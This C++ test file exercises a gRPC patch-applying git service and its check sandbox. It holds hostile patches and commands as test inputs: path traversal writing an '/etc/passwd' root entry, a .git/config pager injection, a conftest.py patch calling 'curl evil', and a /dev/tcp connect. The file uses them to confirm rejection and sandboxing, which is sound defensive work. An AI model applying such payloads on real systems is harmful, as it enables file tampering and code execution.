// The GitAdapter "must show" points, through the real server process over gRPC.
#include <signal.h>
#include <unistd.h>

#include <cstdlib>
#include <memory>
#include <string>

#include "absl/strings/ascii.h"
#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_split.h"
#include "absl/strings/str_join.h"
#include "absl/time/clock.h"
#include "autopack/v1/gitadapter.grpc.pb.h"
#include "grpcpp/create_channel.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "services/gitadapter/test_repo.h"
#include "tests/testing/server_process.h"

namespace autopack {
namespace {

namespace git = gitadapter::testing;
using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

class GitAdapterServerTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    origin_ = new std::string(git::NewTempDir("origin"));
    ASSERT_TRUE(git::MakeRepo(*origin_, 250, 3, 21).ok());
  }

  void SetUp() override {
    root_ = git::NewTempDir("workspaces");
    StartServer();
    v1::OpenWorkspaceRequest open;
    open.set_run_id("run1");
    open.set_repo_url(*origin_);
    v1::OpenWorkspaceResponse opened;
    ASSERT_TRUE(Call(&v1::GitAdapterService::Stub::OpenWorkspace, open, &opened).ok());
    ASSERT_TRUE(opened.created());
    base_ = opened.base_sha();
    dir_ = root_ + "/run1/repo";
  }

  void StartServer() {
    stub_.reset();
    server_.reset();
    auto server = testing::ServerProcess::Start(
        "services/gitadapter/gitadapter_server",
        {"--listen=127.0.0.1:0", "--shutdown_grace=2s", "--workspace_root=" + root_,
         absl::StrCat("--local_repo_roots=", std::getenv("TEST_TMPDIR"))});
    ASSERT_TRUE(server.ok()) << server.status();
    server_ = std::move(*server);
    stub_ = v1::GitAdapterService::NewStub(
        grpc::CreateChannel(server_->address(), grpc::InsecureChannelCredentials()));
  }

  template <typename Method, typename Request, typename Response>
  grpc::Status Call(Method method, const Request& request, Response* response) {
    grpc::ClientContext context;
    context.set_deadline(absl::ToChronoTime(absl::Now() + absl::Seconds(60)));
    return ((*stub_).*method)(&context, request, response);
  }

  grpc::Status Apply(const std::string& patch, bool dry_run, v1::ApplyPatchResponse* response,
                     const std::vector<std::string>& protected_paths = {}) {
    v1::ApplyPatchRequest request;
    for (const std::string& glob : protected_paths) request.add_protected_paths(glob);
    request.set_workspace_id("run1");
    request.set_patch(patch);
    request.set_commit_message("autopack: p1 change (attempt 1)");
    request.mutable_author()->set_name("Builder");
    request.mutable_author()->set_email("builder@example.com");
    request.set_dry_run(dry_run);
    return Call(&v1::GitAdapterService::Stub::ApplyPatch, request, response);
  }

  std::string Fingerprint() { return git::Trim(git::StateFingerprint(dir_, true)); }

  static std::string* origin_;
  std::string root_;
  std::string dir_;
  std::string base_;
  std::unique_ptr<testing::ServerProcess> server_;
  std::unique_ptr<v1::GitAdapterService::Stub> stub_;
};

std::string* GitAdapterServerTest::origin_ = nullptr;

TEST_F(GitAdapterServerTest, GitDiffsAndHeaderlessDiffsGiveGitsTree) {
  auto with_mode_only = git::MakeChange(*origin_, 31, /*pure_mode_change=*/true);
  auto headerless_ok = git::MakeChange(*origin_, 32, /*pure_mode_change=*/false);
  ASSERT_TRUE(with_mode_only.ok() && headerless_ok.ok());
  const std::string before = Fingerprint();
  const struct {
    std::string diff;
    std::string tree;
  } cases[] = {{with_mode_only->diff, with_mode_only->tree_sha},
               {headerless_ok->diff, headerless_ok->tree_sha},
               {git::StripGitHeaders(headerless_ok->diff), headerless_ok->tree_sha}};
  for (const auto& c : cases) {
    v1::ApplyPatchResponse response;
    const grpc::Status status = Apply(c.diff, true, &response);
    ASSERT_TRUE(status.ok()) << status.error_message();
    EXPECT_EQ(response.tree_sha(), c.tree);
    EXPECT_THAT(response.relocated_hunks(), IsEmpty());
  }
  EXPECT_EQ(Fingerprint(), before);
  v1::ApplyPatchResponse applied;
  ASSERT_TRUE(Apply(with_mode_only->diff, false, &applied).ok());
  EXPECT_EQ(git::Trim(git::Sh(dir_, "git rev-parse HEAD 'HEAD^{tree}'")),
            absl::StrCat(applied.commit_sha(), "\n", with_mode_only->tree_sha));
  EXPECT_EQ(git::Trim(git::Sh(dir_, "git status --porcelain")), "");
}

TEST_F(GitAdapterServerTest, ShiftedHunksApplyWithOffsetsAndAlteredContextIsRejected) {
  auto change = git::MakeChange(*origin_, 33, /*pure_mode_change=*/false);
  ASSERT_TRUE(change.ok());
  for (int shift : {2, -5, 40, -40}) {
    v1::ApplyPatchResponse response;
    const grpc::Status status = Apply(git::ShiftHunks(git::StripGitHeaders(change->diff), shift), true, &response);
    ASSERT_TRUE(status.ok()) << status.error_message();
    EXPECT_EQ(response.tree_sha(), change->tree_sha) << shift;
    ASSERT_THAT(response.relocated_hunks(), Not(IsEmpty()));
    if (shift > 0) {
      EXPECT_EQ(response.relocated_hunks(0).offset(), -shift);
    }
  }
  // Alter one context line of a modified file's second hunk.
  std::vector<std::string> lines = absl::StrSplit(git::ShiftHunks(change->diff, 9), '\n');
  std::string path;
  int hunk_in_file = 0;
  bool altered = false;
  for (std::string& line : lines) {
    if (absl::StartsWith(line, "+++ b/")) {
      path = line.substr(6);
      hunk_in_file = 0;
    } else if (absl::StartsWith(line, "@@ ")) {
      ++hunk_in_file;
    } else if (!altered && hunk_in_file == 2 && absl::StartsWith(line, " ")) {
      line = " altered context";
      altered = true;
      break;
    }
  }
  ASSERT_TRUE(altered);
  const std::string before = Fingerprint();
  v1::ApplyPatchResponse response;
  const grpc::Status status = Apply(absl::StrJoin(lines, "\n"), false, &response);
  EXPECT_EQ(status.error_code(), grpc::StatusCode::INVALID_ARGUMENT);
  EXPECT_THAT(status.error_message(), AllOf(HasSubstr(absl::StrCat(path, ": hunk 2: ")), HasSubstr("match nowhere")));
  EXPECT_EQ(Fingerprint(), before);
}

TEST_F(GitAdapterServerTest, HostilePatchesAreInvalidArgumentAndWriteNothing) {
  const std::string passwd = git::Trim(git::Sh("/", "sha1sum /etc/passwd"));
  const std::string before = Fingerprint();
  for (const std::string& patch : {
           std::string("--- /dev/null\n+++ b/../../etc/passwd\n@@ -0,0 +1 @@\n+evil::0:0::/:/bin/sh\n"),
           std::string("--- /dev/null\n+++ b/../../../escaped.txt\n@@ -0,0 +1 @@\n+x\n"),
           std::string("--- /dev/null\n+++ /abs/path\n@@ -0,0 +1 @@\n+x\n"),
           std::string("--- a/.git/config\n+++ b/.git/config\n@@ -1 +1,2 @@\n [core]\n+\tpager = evil\n"),
           std::string("diff --git a/ln b/ln\nnew file mode 120000\n--- /dev/null\n+++ b/ln\n@@ -0,0 +1 @@\n+/etc\n"
                       "\\ No newline at end of file\n--- /dev/null\n+++ b/ln/passwd\n@@ -0,0 +1 @@\n+x\n"),
           std::string("--- /dev/null\n+++ b/link_to_pkg0/through.txt\n@@ -0,0 +1 @@\n+x\n"),
           std::string("diff --git a/sub b/sub\nnew file mode 160000\nindex 0000000..1234567\n--- /dev/null\n"
                       "+++ b/sub\n@@ -0,0 +1 @@\n+Subproject commit 1234567890123456789012345678901234567890\n"),
           std::string("diff --git a/x.bin b/x.bin\nnew file mode 100644\nindex 0000000..f76dd23\n"
                       "GIT binary patch\nliteral 5\nMcmZQzWMXCo0000\n\nliteral 0\nHcmV?d00001\n\n"),
       }) {
    v1::ApplyPatchResponse response;
    const grpc::Status status = Apply(patch, false, &response);
    EXPECT_EQ(status.error_code(), grpc::StatusCode::INVALID_ARGUMENT) << patch;
    EXPECT_THAT(status.error_message(), HasSubstr("patch rejected")) << patch;
    EXPECT_EQ(Fingerprint(), before) << patch;
  }
  EXPECT_EQ(git::Trim(git::Sh("/", "sha1sum /etc/passwd")), passwd);
  // "../../../escaped.txt" from the working tree <root>/run1/repo is <root>/../escaped.txt.
  for (const std::string& escaped : {root_ + "/../escaped.txt", root_ + "/escaped.txt", root_ + "/run1/escaped.txt",
                                     dir_ + "/escaped.txt", std::string("/abs/path")}) {
    EXPECT_NE(access(escaped.c_str(), F_OK), 0) << escaped;
  }
}

// Issue 10 over the wire: bytes that are not UTF-8, git's escaped paths,
// format-patch mails and prose after the last hunk.
TEST_F(GitAdapterServerTest, EscapedPathsLatin1FilesMailsAndTrailingProse) {
  v1::ApplyPatchResponse response;
  grpc::Status status = Apply(
      "--- /dev/null\n+++ b/tests/conftest.py\n@@ -0,0 +1 @@\n+import pytest\n"
      "--- /dev/null\n+++ \"b/menu.txt\"\n@@ -0,0 +1,2 @@\n+caf\xe9\n+th\xe9\n",
      false, &response);
  ASSERT_TRUE(status.ok()) << status.error_message();

  // `\143` is 'c': the escaped name is tests/conftest.py, and it is protected.
  const std::string head = git::Trim(git::Sh(dir_, "git rev-parse HEAD"));
  status = Apply(
      "diff --git \"a/tests/\\143onftest.py\" \"b/tests/\\143onftest.py\"\n"
      "--- \"a/tests/\\143onftest.py\"\n+++ \"b/tests/\\143onftest.py\"\n"
      "@@ -1 +1 @@\n-import pytest\n+import os; os.system('curl evil')\n",
      false, &response, {"conftest.py"});
  EXPECT_EQ(status.error_code(), grpc::StatusCode::INVALID_ARGUMENT);
  EXPECT_THAT(status.error_message(), HasSubstr("`tests/conftest.py` is a protected path (matches conftest.py)"));
  EXPECT_EQ(git::Trim(git::Sh(dir_, "git rev-parse HEAD")), head);

  // Latin-1 bytes in context and in the added line arrive and land as they are.
  status = Apply("--- a/menu.txt\n+++ b/menu.txt\n@@ -1,2 +1,2 @@\n caf\xe9\n-th\xe9\n+cr\xe8me\n", false, &response);
  ASSERT_TRUE(status.ok()) << status.error_message();
  EXPECT_EQ(git::Sh(dir_, "git show HEAD:menu.txt").value_or(""), "caf\xe9\ncr\xe8me\n");

  // A git format-patch mail: its "-- " signature is not a removed line.
  status = Apply(
      "From 0123456789abcdef0123456789abcdef01234567 Mon Sep 17 00:00:00 2001\n"
      "From: Dev <dev@example.org>\nSubject: [PATCH] tea\n\nSigned-off-by: Dev <dev@example.org>\n---\n"
      " menu.txt | 1 +\n\ndiff --git a/menu.txt b/menu.txt\n--- a/menu.txt\n+++ b/menu.txt\n"
      "@@ -1,2 +1,3 @@\n caf\xe9\n cr\xe8me\n+tea\n-- \n2.39.2\n\n",
      false, &response);
  ASSERT_TRUE(status.ok()) << status.error_message();
  EXPECT_EQ(git::Sh(dir_, "git show HEAD:menu.txt").value_or(""), "caf\xe9\ncr\xe8me\ntea\n");

  // Prose after a correctly counted hunk is not applied.
  status = Apply("--- a/menu.txt\n+++ b/menu.txt\n@@ -3 +3 @@\n-tea\n+coffee\n+Thanks, this fixes the menu.\n",
                 false, &response);
  ASSERT_TRUE(status.ok()) << status.error_message();
  EXPECT_EQ(git::Sh(dir_, "git show HEAD:menu.txt").value_or(""), "caf\xe9\ncr\xe8me\ncoffee\n");

  // GetDiff hands the Latin-1 bytes back unchanged.
  v1::GetDiffRequest diff_request;
  diff_request.set_workspace_id("run1");
  diff_request.set_from_ref(head);
  v1::GetDiffResponse diff;
  status = Call(&v1::GitAdapterService::Stub::GetDiff, diff_request, &diff);
  ASSERT_TRUE(status.ok()) << status.error_message();
  EXPECT_THAT(diff.patch(), HasSubstr("+cr\xe8me"));
}

TEST_F(GitAdapterServerTest, ChecksTimeOutWithoutLeftoversAndHaveNoNetwork) {
  v1::RunChecksRequest request;
  request.set_workspace_id("run1");
  request.set_command("sleep 95.4321 & setsid sleep 95.4321 & sleep 95.4321");
  request.mutable_timeout()->set_seconds(2);
  v1::RunChecksResponse response;
  const absl::Time start = absl::Now();
  grpc::Status status = Call(&v1::GitAdapterService::Stub::RunChecks, request, &response);
  ASSERT_TRUE(status.ok()) << status.error_message();
  EXPECT_LT(absl::Now() - start, absl::Seconds(4));
  EXPECT_TRUE(response.result().timed_out());
  EXPECT_FALSE(response.result().passed());
  EXPECT_TRUE(response.result().sandboxed());
  EXPECT_EQ(git::CountProcesses("95.4321"), 0);

  int listener = -1;
  const int port = git::ListenOnLoopback(&listener);
  ASSERT_NE(port, 0);
  request.set_command(absl::StrCat("bash -c 'exec 3<>/dev/tcp/127.0.0.1/", port,
                                   "' && echo connected"));
  request.mutable_timeout()->set_seconds(20);
  status = Call(&v1::GitAdapterService::Stub::RunChecks, request, &response);
  close(listener);
  ASSERT_TRUE(status.ok()) << status.error_message();
  EXPECT_FALSE(response.result().passed());
  EXPECT_THAT(response.result().output_tail(), Not(HasSubstr("connected")));
  EXPECT_TRUE(response.result().sandboxed());

  request.set_command("echo '[  PASSED  ] 4 tests.'");
  status = Call(&v1::GitAdapterService::Stub::RunChecks, request, &response);
  ASSERT_TRUE(status.ok());
  EXPECT_TRUE(response.result().passed());
  EXPECT_EQ(response.result().tests_passed(), 4);
  EXPECT_EQ(response.result().output_format(), "gtest");
}

TEST_F(GitAdapterServerTest, RestartKeepsWorkspacesAndIdempotencyKeys) {
  v1::ApplyPatchRequest request;
  request.set_workspace_id("run1");
  request.set_patch("--- a/README.md\n+++ b/README.md\n@@ -1 +1,2 @@\n # sample\n+phase one\n");
  request.set_commit_message("autopack: p1 first (attempt 1)");
  request.set_idempotency_key("run1/p1");
  request.set_expected_head_sha(base_);
  v1::ApplyPatchResponse first;
  ASSERT_TRUE(Call(&v1::GitAdapterService::Stub::ApplyPatch, request, &first).ok());
  ASSERT_FALSE(first.already_applied());

  auto stopped = server_->Stop(SIGTERM, absl::Seconds(10));
  ASSERT_TRUE(stopped.ok());
  EXPECT_EQ(*stopped, 0);
  StartServer();

  v1::ApplyPatchResponse retry;
  ASSERT_TRUE(Call(&v1::GitAdapterService::Stub::ApplyPatch, request, &retry).ok());
  EXPECT_TRUE(retry.already_applied());
  EXPECT_EQ(retry.commit_sha(), first.commit_sha());

  v1::RollbackRequest rollback;
  rollback.set_workspace_id("run1");
  rollback.set_commit_sha(base_);
  v1::RollbackResponse rolled;
  ASSERT_TRUE(Call(&v1::GitAdapterService::Stub::Rollback, rollback, &rolled).ok());
  EXPECT_EQ(rolled.head_sha(), base_);
  EXPECT_EQ(git::Trim(git::Sh(dir_, "git rev-parse HEAD && git status --porcelain")), base_);

  v1::GetDiffRequest diff;
  diff.set_workspace_id("nope");
  v1::GetDiffResponse diff_response;
  EXPECT_EQ(Call(&v1::GitAdapterService::Stub::GetDiff, diff, &diff_response).error_code(),
            grpc::StatusCode::NOT_FOUND);
}

// No silent fallback: a sandbox that cannot be set up stops the server from
// starting, unless unsandboxed checks were asked for by name.
TEST(GitAdapterServerSandboxTest, RefusesToStartWithoutAWorkingSandboxUnlessToldSandboxNone) {
  const std::string root = git::NewTempDir("nosandbox");
  auto refused = testing::ServerProcess::Start(
      "services/gitadapter/gitadapter_server",
      {"--listen=127.0.0.1:0", "--workspace_root=" + root, "--bwrap_path=/nonexistent/bwrap"});
  ASSERT_FALSE(refused.ok());
  EXPECT_THAT(std::string(refused.status().message()),
              AllOf(HasSubstr("exited before listening"), HasSubstr("cannot set up the check sandbox"),
                    HasSubstr("bwrap_path: /nonexistent/bwrap")));
  for (const std::string old_value : {"auto", "required", "off"}) {
    auto old = testing::ServerProcess::Start("services/gitadapter/gitadapter_server",
                                             {"--listen=127.0.0.1:0", "--workspace_root=" + root,
                                              "--sandbox=" + old_value});
    ASSERT_FALSE(old.ok()) << old_value;
    EXPECT_THAT(std::string(old.status().message()), HasSubstr("--sandbox must be bwrap or none")) << old_value;
  }

  auto server = testing::ServerProcess::Start(
      "services/gitadapter/gitadapter_server",
      {"--listen=127.0.0.1:0", "--workspace_root=" + root, "--bwrap_path=/nonexistent/bwrap", "--sandbox=none",
       absl::StrCat("--local_repo_roots=", std::getenv("TEST_TMPDIR"))});
  ASSERT_TRUE(server.ok()) << server.status();
  EXPECT_THAT((*server)->Log(), HasSubstr("checks run unsandboxed"));
  const std::string origin = git::NewTempDir("nosandbox_origin");
  ASSERT_TRUE(git::MakeRepo(origin, 5, 0, 3).ok());
  auto stub = v1::GitAdapterService::NewStub(
      grpc::CreateChannel((*server)->address(), grpc::InsecureChannelCredentials()));
  v1::OpenWorkspaceRequest open;
  open.set_run_id("run1");
  open.set_repo_url(origin);
  v1::OpenWorkspaceResponse opened;
  grpc::ClientContext open_context;
  ASSERT_TRUE(stub->OpenWorkspace(&open_context, open, &opened).ok());
  v1::RunChecksRequest check;
  check.set_workspace_id("run1");
  check.set_command("true");
  v1::RunChecksResponse checked;
  grpc::ClientContext check_context;
  ASSERT_TRUE(stub->RunChecks(&check_context, check, &checked).ok());
  EXPECT_TRUE(checked.result().passed());
  EXPECT_FALSE(checked.result().sandboxed());
  EXPECT_THAT(checked.result().sandbox_note(), HasSubstr("unsandboxed"));
}

}  // namespace
}  // namespace autopack
